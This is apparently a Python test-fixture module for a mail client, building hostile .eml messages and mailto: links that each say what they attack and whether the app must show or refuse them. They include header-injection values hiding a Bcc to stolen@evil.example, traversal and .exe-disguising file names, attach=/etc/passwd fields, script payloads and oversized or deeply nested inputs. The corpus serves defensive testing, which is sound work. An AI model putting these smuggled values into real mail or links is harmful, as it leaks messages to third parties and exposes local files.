"""A generated set of hostile messages and mailto: links, as an attacker would write them.

Each item names what it attacks and what the app must do with it:
"shown" (opened, replied to and forwarded, what could not be read said in a
note) or "refused" (a sentence, nothing else). The tests use the items at a
small scale (tests/mail/test_hostile_corpus.py, tests/gui/test_hostile_mail.py);
bench/hostile_input.py uses them at the sizes the audit found harmful
(scale=1.0) and measures the GUI thread's longest stall and peak memory.
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import quote

HEADERS = (
    "From: Anna Berg <anna@example.org>\r\nTo: me@example.com\r\n"
    "Date: Mon, 3 Mar 2025 10:02:00 +0100\r\nMessage-ID: <h1@example.org>\r\n"
)
INJECTED = "Bcc: stolen@evil.example"


# The headers the app writes in a message it sends; anything else in what went
# out came from the input.
OUR_HEADERS = frozenset(
    {
        "from", "to", "cc", "subject", "date", "message-id", "in-reply-to", "references",
        "mime-version", "content-type", "content-transfer-encoding",
    }
)  # fmt: skip


def header_names(raw: bytes) -> list[str]:
    """The names of the top-level headers, read from the bytes as a receiving server would."""
    head = raw.replace(b"\r\n", b"\n").split(b"\n\n", 1)[0]
    return [
        line.split(b":", 1)[0].decode("ascii", "replace").lower()
        for line in head.split(b"\n")
        if line and line[:1] not in (b" ", b"\t")
    ]


@dataclass(frozen=True)
class Hostile:
    name: str
    attack: str  # what it tries, in a few words
    expect: str  # "shown" or "refused"
    data: Callable[[float], bytes]  # scale -> the bytes of the .eml file (or the link, UTF-8)

    def bytes(self, scale: float) -> bytes:
        return self.data(scale)


def _n(base: int, scale: float, floor: int = 1) -> int:
    return max(floor, int(base * scale))


def b_word(text: str) -> str:
    return "=?utf-8?b?" + base64.b64encode(text.encode()).decode() + "?="


def _mail(subject: str = "Friday", extra: str = "", body: str = "See you Friday.\r\n") -> bytes:
    return (HEADERS + extra + f"Subject: {subject}\r\n\r\n" + body).encode(
        "utf-8", "surrogateescape"
    )


def _multipart(parts: list[str], boundary: str = "b0", kind: str = "mixed") -> str:
    inner = "".join(f"--{boundary}\r\n{part}\r\n" for part in parts)
    return (
        f"MIME-Version: 1.0\r\nContent-Type: multipart/{kind}; boundary={boundary}\r\n\r\n"
        f"{inner}--{boundary}--\r\n"
    )


def _with_attachments(count: int) -> bytes:
    parts = ["Content-Type: text/plain\r\n\r\nMany files."]
    parts += [
        f'Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="f{i}.bin"'
        f"\r\nContent-Transfer-Encoding: base64\r\n\r\nAAEC"
        for i in range(count)
    ]
    text = _multipart(parts)
    head, _, body = text.partition("\r\n\r\n")
    return (HEADERS + "Subject: files\r\n" + head + "\r\n\r\n" + body).encode()


def _nested_multiparts(depth: int) -> bytes:
    text = "Content-Type: text/plain\r\n\r\ninnermost"
    for level in range(depth):
        text = _multipart([text], boundary=f"n{level}").rstrip("\r\n")
    head, _, body = text.partition("\r\n\r\n")
    return (HEADERS + "Subject: deep\r\n" + head + "\r\n\r\n" + body + "\r\n").encode()


def _html(body: str) -> bytes:
    return _mail(
        "html", "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n", body + "\r\n"
    )


def _mailto(text: str) -> Callable[[float], bytes]:
    return lambda scale: text.encode()


MESSAGES: list[Hostile] = [
    # Header injection into what the user sends back.
    *[
        Hostile(
            f"subject_nested_{i}",
            "a Subject whose decoded text is an encoded word holding CR/LF",
            "shown",
            lambda s, brk=brk: _mail(b_word(b_word(f"Hi{brk}{INJECTED}{brk}"))),
        )
        for i, brk in enumerate(["\r\n", "\n", "\r", "\x00", "\u2028", "\x85"])
    ],
    Hostile(
        "subject_nested_html",
        "a nested Subject adding Reply-To, Content-Type and an HTML body",
        "shown",
        lambda s: _mail(
            b_word(
                b_word(
                    "Hi\r\nReply-To: attacker@evil.example\r\nContent-Type: text/html\r\n\r\n"
                    "<a href='https://evil.example'>click</a>"
                )
            )
        ),
    ),
    Hostile(
        "from_name_nested",
        "a sender name hiding a header",
        "shown",
        lambda s: _mail(extra="").replace(
            b"From: Anna Berg", ("From: " + b_word(b_word("A\r\n" + INJECTED))).encode()
        ),
    ),
    Hostile(
        "reply_to_nested",
        "a Reply-To name hiding a header",
        "shown",
        lambda s: _mail(
            extra=f"Reply-To: {b_word(b_word('R' + chr(10) + INJECTED))} <r@example.org>\r\n"
        ),
    ),
    Hostile(
        "cc_nested",
        "a Cc name hiding a header (Reply all)",
        "shown",
        lambda s: _mail(
            extra=f"Cc: {b_word(b_word('C' + chr(13) + chr(10) + INJECTED))} <c@example.org>\r\n"
        ),
    ),
    Hostile(
        "message_id_nested",
        "a Message-ID hiding a header (In-Reply-To, References)",
        "shown",
        lambda s: _mail().replace(b"<h1@example.org>", b_word("<x@y>\r\n" + INJECTED).encode()),
    ),
    Hostile(
        "references_flood",
        "thousands of References",
        "shown",
        lambda s: _mail(
            extra="References: " + " ".join(f"<r{i}@x>" for i in range(_n(20_000, s, 50))) + "\r\n"
        ),
    ),
    Hostile(
        "filename_injection",
        "an attachment name holding CR/LF and a path",
        "shown",
        lambda s: (
            HEADERS
            + "Subject: f\r\n"
            + _multipart(
                [
                    "Content-Type: text/plain\r\n\r\nsee file",
                    'Content-Type: application/pdf\r\nContent-Disposition: attachment; filename="'
                    + b_word("../../x\r\nBcc: stolen@evil.example.pdf")
                    + '"\r\n\r\n%PDF',
                ]
            )
        ).encode(),
    ),
    Hostile(
        "filename_con",
        "a Windows device name",
        "shown",
        lambda s: (
            HEADERS
            + "Subject: f\r\n"
            + _multipart(
                [
                    "Content-Type: text/plain\r\n\r\nsee file",
                    'Content-Type: text/plain\r\nContent-Disposition: attachment; filename="aux.pdf"\r\n\r\nx',
                ]
            )
        ).encode(),
    ),
    Hostile(
        "filename_rtl",
        "a right-to-left override hiding .exe",
        "shown",
        lambda s: (
            HEADERS
            + "Subject: f\r\n"
            + _multipart(
                [
                    "Content-Type: text/plain\r\n\r\nphoto",
                    "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; "
                    'filename="' + b_word("photo\u202egpj.exe") + '"\r\n\r\nMZ',
                ]
            )
        ).encode(),
    ),
    # Size and depth: the GUI thread must never freeze.
    Hostile(
        "one_line_body",
        "a 10 MB body without a line break",
        "shown",
        lambda s: _mail(body="x" * _n(10_000_000, s, 5_000) + "\r\n"),
    ),
    Hostile(
        "long_lines_body",
        "a body of 100,000-character lines",
        "shown",
        lambda s: _mail(body=("y" * _n(100_000, s, 2_000) + "\r\n") * 20),
    ),
    Hostile(
        "huge_subject",
        "a 1 MB subject",
        "shown",
        lambda s: _mail(subject="s" * _n(1_000_000, s, 40_000)),
    ),
    Hostile(
        "encoded_words_subject",
        "20,000 encoded words in a Subject",
        "shown",
        lambda s: _mail(subject=" ".join(f"=?utf-8?q?w{i}?=" for i in range(_n(20_000, s, 3_000)))),
    ),
    Hostile(
        "many_recipients",
        "5,000 addresses in To (Reply all)",
        "shown",
        lambda s: _mail(
            extra="Cc: "
            + ", ".join(f"U {i} <u{i}@example.org>" for i in range(_n(5_000, s, 300)))
            + "\r\n"
        ),
    ),
    Hostile(
        "attachments_5000",
        "5,000 attachments (Forward copies each)",
        "shown",
        lambda s: _with_attachments(_n(5_000, s, 200)),
    ),
    Hostile(
        "attachments_60000",
        "60,000 attachments (more parts than the reader opens)",
        "refused",
        lambda s: _with_attachments(_n(60_000, s, 20_001)),
    ),
    Hostile(
        "nested_blockquotes",
        "30,000 nested <blockquote>",
        "shown",
        lambda s: _html(
            "<blockquote>q" * _n(30_000, s, 2_000) + "</blockquote>" * _n(30_000, s, 2_000)
        ),
    ),
    Hostile(
        "nested_divs",
        "100,000 nested <div>",
        "shown",
        lambda s: _html(
            "<div>" * _n(100_000, s, 2_000) + "deep" + "</div>" * _n(100_000, s, 2_000)
        ),
    ),
    Hostile(
        "nested_multiparts",
        "multiparts nested 3,000 deep (deeper than the email parser recurses)",
        "refused",
        lambda s: _nested_multiparts(_n(3_000, s, 3_000)),
    ),
    Hostile(
        "nested_multiparts_100",
        "multiparts nested 100 deep",
        "shown",
        lambda s: _nested_multiparts(100),
    ),
    Hostile(
        "html_newsletter",
        "a 3 MB HTML newsletter",
        "shown",
        lambda s: _html(
            "<table>"
            + "<tr><td><a href='https://shop.example/p'>Article</a></td></tr>" * _n(50_000, s, 500)
            + "</table>"
        ),
    ),
    Hostile(
        "many_headers",
        "100,000 headers",
        "shown",
        lambda s: _mail(extra="".join(f"X-H{i}: v\r\n" for i in range(_n(100_000, s, 1_000)))),
    ),
    Hostile(
        "folded_header",
        "a header folded 200,000 times",
        "shown",
        lambda s: _mail(extra="X-Long: a" + "\r\n b" * _n(200_000, s, 2_000) + "\r\n"),
    ),
    Hostile(
        "base64_garbage",
        "a body of broken base64",
        "shown",
        lambda s: _mail(
            extra="MIME-Version: 1.0\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n",
            body="!!@@##" * _n(100_000, s, 100),
        ),
    ),
    Hostile(
        "unknown_charset",
        "a charset no codec knows",
        "shown",
        lambda s: _mail(
            extra="MIME-Version: 1.0\r\nContent-Type: text/plain; charset=x-evil-charset\r\n",
            body="caf\xe9\r\n",
        ),
    ),
    Hostile(
        "utf7_charset",
        "a UTF-7 body (script hidden from filters)",
        "shown",
        lambda s: _mail(
            extra="MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-7\r\n",
            body="+ADw-script+AD4-\r\n",
        ),
    ),
    Hostile(
        "bidi_subject",
        "right-to-left overrides in the Subject",
        "shown",
        lambda s: _mail(subject="Invoice \u202egnp.exe"),
    ),
    Hostile(
        "null_bytes",
        "NUL bytes in headers and body",
        "shown",
        lambda s: _mail(subject="a\x00b", body="x\x00y\r\n"),
    ),
    Hostile(
        "raw_8bit_headers",
        "raw 8-bit bytes in headers",
        "shown",
        lambda s: HEADERS.encode() + b"Subject: caf\xe9 \xff\xfe\r\n\r\nbody\r\n",
    ),
    Hostile(
        "no_boundary",
        "a multipart without its boundary",
        "shown",
        lambda s: _mail(
            extra="MIME-Version: 1.0\r\nContent-Type: multipart/mixed\r\n", body="--x\r\nhello\r\n"
        ),
    ),
    Hostile(
        "unclosed_boundary",
        "a multipart never closed",
        "shown",
        lambda s: (
            HEADERS
            + "Subject: u\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=z\r\n\r\n--z\r\nContent-Type: text/plain\r\n\r\ncut off"
        ).encode(),
    ),
    Hostile(
        "message_rfc822_loop",
        "message/rfc822 nested 500 deep",
        "shown",
        lambda s: _rfc822_nest(_n(500, s, 40)),
    ),
    Hostile(
        "bad_date",
        "a date in the year 99999",
        "shown",
        lambda s: _mail().replace(
            b"Mon, 3 Mar 2025 10:02:00 +0100", b"Mon, 3 Mar 99999 99:99:99 +9999"
        ),
    ),
    Hostile(
        "group_syntax",
        "an address group without members",
        "shown",
        lambda s: _mail().replace(b"To: me@example.com", b"To: undisclosed-recipients:;"),
    ),
    Hostile(
        "from_no_domain",
        "a sender without a domain",
        "shown",
        lambda s: _mail().replace(b"From: Anna Berg <anna@example.org>", b"From: foo"),
    ),
    Hostile(
        "inline_named_text",
        "the text in an inline part with a file name",
        "shown",
        lambda s: (
            HEADERS
            + "Subject: i\r\n"
            + _multipart(
                [
                    'Content-Type: text/plain\r\nContent-Disposition: inline; filename="body.txt"\r\n\r\nThe real text.'
                ]
            )
        ).encode(),
    ),
    Hostile(
        "headerless_text",
        "a text file without mail headers",
        "shown",
        lambda s: b"Hello Anna,\r\nthe notes: see below.\r\n",
    ),
    Hostile(
        "mbox_line",
        "an mbox From_ line first",
        "shown",
        lambda s: b"From anna@example.org Mon Mar  3 10:02:00 2025\r\n" + _mail(),
    ),
    Hostile(
        "deep_flowed",
        "format=flowed with thousands of quote levels",
        "shown",
        lambda s: _mail(
            extra="MIME-Version: 1.0\r\nContent-Type: text/plain; format=flowed\r\n",
            body=(">" * _n(5_000, s, 200) + " line \r\n") * 50,
        ),
    ),
    Hostile(
        "long_content_id",
        "a 100 KB Content-ID",
        "shown",
        lambda s: (
            HEADERS
            + "Subject: c\r\n"
            + _multipart(
                [
                    "Content-Type: text/plain\r\n\r\nimg",
                    "Content-Type: image/png\r\nContent-ID: <"
                    + "c" * _n(100_000, s, 2_000)
                    + ">\r\n\r\nPNG",
                ]
            )
        ).encode(),
    ),
    Hostile(
        "many_parts_alternative",
        "10,000 alternatives",
        "shown",
        lambda s: (
            HEADERS
            + "Subject: a\r\n"
            + _multipart(
                ["Content-Type: text/html\r\n\r\n<p>v</p>"] * _n(10_000, s, 100), kind="alternative"
            )
        ).encode(),
    ),
    Hostile(
        "huge_param",
        "a 1 MB Content-Type parameter",
        "shown",
        lambda s: _mail(
            extra="MIME-Version: 1.0\r\nContent-Type: text/plain; x="
            + "p" * _n(1_000_000, s, 10_000)
            + "\r\n"
        ),
    ),
    Hostile(
        "rfc2231_flood",
        "a file name in 10,000 RFC 2231 pieces",
        "shown",
        lambda s: (
            HEADERS
            + "Subject: r\r\n"
            + _multipart(
                [
                    "Content-Type: text/plain\r\n\r\nx",
                    "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; "
                    + "; ".join(f"filename*{i}=p{i}" for i in range(_n(10_000, s, 100)))
                    + "\r\n\r\nAA",
                ]
            )
        ).encode(),
    ),
    Hostile(
        "binary_file",
        "a picture, not a message",
        "refused",
        lambda s: b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4,
    ),
    Hostile("empty_file", "an empty file", "refused", lambda s: b""),
    Hostile(
        "over_64mb",
        "a message over the 64 MB limit",
        "refused",
        lambda s: _mail(body="z" * (64 * 1024 * 1024 + 1)),
    ),
    Hostile("only_newlines", "a file of blank lines", "refused", lambda s: b"\r\n" * 1000),
    Hostile(
        "control_subject",
        "escape sequences in the Subject",
        "shown",
        lambda s: _mail(subject="\x1b[31mred\x1b[0m \x07bell"),
    ),
    Hostile(
        "quoted_printable_soft",
        "quoted-printable soft breaks only",
        "shown",
        lambda s: _mail(
            extra="MIME-Version: 1.0\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n",
            body="=\r\n" * _n(500_000, s, 1_000) + "end\r\n",
        ),
    ),
    Hostile(
        "many_encoded_names",
        "5,000 encoded display names in Cc",
        "shown",
        lambda s: _mail(
            extra="Cc: "
            + ", ".join(
                f"{b_word('N' + str(i))} <n{i}@example.org>" for i in range(_n(5_000, s, 200))
            )
            + "\r\n"
        ),
    ),
]


def _rfc822_nest(depth: int) -> bytes:
    text = HEADERS + "Subject: innermost\r\n\r\ncore\r\n"
    for level in range(depth):
        text = (
            HEADERS
            + f"Subject: level {level}\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n"
            + text
        )
    return text.encode()


LINKS: list[Hostile] = [
    *[
        Hostile(
            f"mailto_subject_nested_{i}",
            "a subject= hiding a Bcc header",
            "shown",
            _mailto(
                "mailto:anna@example.org?subject="
                + quote(b_word(b_word(f"Hi{brk}{INJECTED}")), safe="")
            ),
        )
        for i, brk in enumerate(["\r\n", "\n", "\r", "\u2028"])
    ],
    Hostile(
        "mailto_raw_crlf_subject",
        "%0D%0A in subject=",
        "shown",
        _mailto("mailto:anna@example.org?subject=Hi%0D%0ABcc:%20stolen@evil.example"),
    ),
    Hostile(
        "mailto_bcc_field",
        "a bcc= the user can see",
        "shown",
        _mailto("mailto:anna@example.org?bcc=stolen@evil.example"),
    ),
    Hostile(
        "mailto_from_field",
        "a from= (ignored)",
        "shown",
        _mailto("mailto:anna@example.org?from=ceo@example.org&subject=x"),
    ),
    Hostile(
        "mailto_attach",
        "an attach= of a local file (ignored)",
        "shown",
        _mailto("mailto:anna@example.org?attach=/etc/passwd&attachment=%2Fetc%2Fshadow"),
    ),
    Hostile(
        "mailto_header_field",
        "a reply-to= / content-type= field (ignored)",
        "shown",
        _mailto("mailto:anna@example.org?reply-to=x@evil.example&content-type=text/html"),
    ),
    Hostile(
        "mailto_in_reply_to",
        "an in-reply-to= with a header after it",
        "shown",
        _mailto("mailto:anna@example.org?in-reply-to=%3Ca@b%3E%0D%0ABcc:x@evil.example"),
    ),
    Hostile(
        "mailto_to_crlf",
        "a CR/LF inside the address",
        "shown",
        _mailto("mailto:anna@example.org%0D%0ABcc:stolen@evil.example"),
    ),
    Hostile(
        "mailto_name_nested",
        "an encoded display name in to=",
        "shown",
        _mailto(
            "mailto:?to=" + quote(b_word(b_word("A\r\n" + INJECTED)) + " <a@example.org>", safe="")
        ),
    ),
    Hostile(
        "mailto_body_2mb",
        "a 2 MB one-line body",
        "shown",
        lambda s: ("mailto:anna@example.org?body=" + "b" * _n(2_000_000, s, 20_000)).encode(),
    ),
    Hostile(
        "mailto_body_200k",
        "a 200 KB one-line body",
        "shown",
        lambda s: ("mailto:anna@example.org?body=" + "c" * _n(200_000, s, 5_000)).encode(),
    ),
    Hostile(
        "mailto_body_lines",
        "a body of 100,000 lines",
        "shown",
        lambda s: ("mailto:a@example.org?body=" + "line%0D%0A" * _n(100_000, s, 1_000)).encode(),
    ),
    Hostile(
        "mailto_subject_1mb",
        "a 1 MB subject",
        "refused",
        lambda s: ("mailto:a@example.org?subject=" + "s" * _n(1_000_000, s, 40_000)).encode(),
    ),
    Hostile(
        "mailto_to_50000",
        "50,000 addresses in to=",
        "refused",
        lambda s: (
            "mailto:" + ",".join(f"u{i}@example.org" for i in range(_n(50_000, s, 2_000)))
        ).encode(),
    ),
    Hostile(
        "mailto_to_long_one",
        "one 40,000-character address",
        "shown",
        lambda s: ("mailto:" + "a" * _n(40_000, s, 33_000) + "@example.org").encode(),
    ),
    Hostile(
        "mailto_too_long",
        "a link over the length limit",
        "refused",
        lambda s: ("mailto:a@example.org?body=" + "x" * (2 * 1024 * 1024 + 1)).encode(),
    ),
    Hostile("mailto_not_mailto", "another scheme", "refused", _mailto("javascript:alert(1)")),
    Hostile("mailto_scheme_only", "a scheme without a colon", "refused", _mailto("mailto")),
    Hostile(
        "mailto_bad_percent",
        "broken percent escapes",
        "shown",
        _mailto("mailto:a@example.org?subject=%ZZ%E9%&body=%"),
    ),
    Hostile(
        "mailto_invalid_utf8",
        "percent-encoded invalid UTF-8",
        "shown",
        _mailto("mailto:a@example.org?subject=%FF%FE%C0%AF"),
    ),
    Hostile(
        "mailto_nul", "NUL bytes", "shown", _mailto("mailto:a@example.org?subject=a%00b&body=c%00d")
    ),
    Hostile(
        "mailto_bidi",
        "right-to-left override in subject",
        "shown",
        _mailto("mailto:a@example.org?subject=%E2%80%AEgnp.exe"),
    ),
    Hostile(
        "mailto_many_fields",
        "100,000 fields",
        "shown",
        lambda s: (
            "mailto:a@example.org?" + "&".join(f"x{i}=1" for i in range(_n(100_000, s, 1_000)))
        ).encode(),
    ),
    Hostile(
        "mailto_repeated_cc",
        "cc= given 10,000 times",
        "shown",
        lambda s: (
            "mailto:a@example.org?"
            + "&".join(f"cc=c{i}@example.org" for i in range(_n(10_000, s, 300)))
        ).encode(),
    ),
    Hostile(
        "mailto_fragment",
        "a fragment after the link",
        "shown",
        _mailto("mailto:a@example.org?subject=ok#%0D%0ABcc:x@evil.example"),
    ),
    Hostile(
        "mailto_amp_entity",
        "&amp; from a web page",
        "shown",
        _mailto("mailto:a@example.org?subject=x&amp;bcc=b@example.org"),
    ),
    Hostile(
        "mailto_idn",
        "an internationalised domain",
        "shown",
        _mailto("mailto:jos%C3%A9@b%C3%BCcher.example?subject=Hallo"),
    ),
    Hostile(
        "mailto_html_body",
        "HTML in body=",
        "shown",
        _mailto("mailto:a@example.org?body=%3Cscript%3Ealert(1)%3C/script%3E"),
    ),
    Hostile(
        "mailto_encoded_body_headers",
        "headers written in body=",
        "shown",
        _mailto("mailto:a@example.org?body=%0D%0A%0D%0ABcc:%20x@evil.example%0D%0A"),
    ),
    Hostile(
        "mailto_uppercase",
        "MAILTO: and field names in capitals",
        "shown",
        _mailto("MAILTO:a@example.org?SUBJECT=Hi&BCC=b@example.org"),
    ),
]
